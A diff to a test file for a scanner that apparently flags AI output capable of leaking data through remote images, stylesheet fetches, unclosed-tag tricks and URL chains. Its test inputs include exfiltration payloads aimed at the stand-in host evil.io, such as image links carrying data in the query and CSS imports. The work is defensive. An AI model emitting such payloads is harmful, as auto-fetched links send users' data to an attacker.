@@ -167,6 +167,62 @@ test('in a fenced code block a remote image is judged as a link', () => {
   breaks('````\n```\n````\n![x](https://evil.io/a.png)', 'output.image.remote')
 })
 
+test('where a fence ends, or was none, a remote image is an image again', () => {
+  for (const before of ['> ```\n', '     ```\n', '```a`b\n', '``` `\n', '<div>\n```\n\n']) {
+    breaks(`${before}![x](https://evil.io/?d=abc)`, 'output.image.remote')
+  }
+  // What is taken out is not rendered, so the fence in it is none.
+  breaks('<img src=//evil.io/a "\n```\n">\n![x](https://evil.io/b)', 'output.image.remote')
+})
+
+test('a tag that nothing closed lends its name to what follows', () => {
+  breaks('<link <a href=https://evil.io/a.css rel=stylesheet>', 'output.image.remote')
+  breaks('<img <x src=https://evil.io/a.png>', 'output.image.remote')
+  passes('if a <b and <a href="https://go.dev/doc">Go</a>')
+})
+
+test('what a style sheet fetches is judged as an image', () => {
+  breaks('<style>@import url(https://evil.io/a.css)</style>', 'output.image.remote')
+  breaks('<STYLE media=all>b{background:url(https://evil.io/a)}', 'output.image.remote')
+  passes('<style>b{color:red}</style> and https://nodejs.org/api/')
+})
+
+test('addresses inside addresses are counted, and a chain of them is removed', () => {
+  passes(`https://web.archive.org/web/2020/https://nodejs.org/api/`)
+  breaks('https://a.test/'.repeat(40), 'output.link.data', '')
+})
+
+test('a text of nothing but beginnings of forms takes time in proportion to its length', () => {
+  const piece = fc.constantFrom(
+    ...['<a', '<', ' ', '=', '"', "'", 'href=', '//', '](', '[a]:', '![', '&', '\\', '(', 'a:', '\n', '/'],
+    ...['www.', 'a ', 'http://a.test/', 'eyJ', '.', '-----BEGIN PRIVATE KEY-----', '```\n', 'style=', '>'],
+  )
+  const patterns = [
+    '<a href=',
+    '<a style=//',
+    '](',
+    '<a',
+    '](<',
+    '<a="',
+    '[a]:',
+    'www.a ',
+    'http://localhost/',
+  ]
+  fc.assert(
+    fc.property(fc.array(piece, { minLength: 1, maxLength: 6 }), (pieces) => {
+      const pattern = pieces.join('')
+      const began = process.cpuUsage()
+      scan([pattern.repeat(Math.ceil(32_768 / pattern.length))])
+      const { user } = process.cpuUsage(began)
+      assert.ok(user < CPU_MICROS_MOST, `${JSON.stringify(pattern)}: ${user} µs`)
+    }),
+    { numRuns: 60, examples: patterns.map((pattern) => [[pattern]]) },
+  )
+})
+
+/** For half as much text as a tenth of a second may take, whatever it says. */
+const CPU_MICROS_MOST = 50_000
+
 test('an address that the request holds whole passes, a longer one does not', () => {
   const url = `https://files.corp.io/get?id=${DATA}`
   const asked = request([{ role: 'tool', tool_call_id: 'a', content: `The report is at ${url}.` }])
@@ -271,6 +327,9 @@ const fragments = fc.constantFrom(
     '-----',
     '~~~',
     ':\\/\\/',
+    '<style>',
+    '</style>',
+    '> ',
     '。',
     'é',
     '😀',
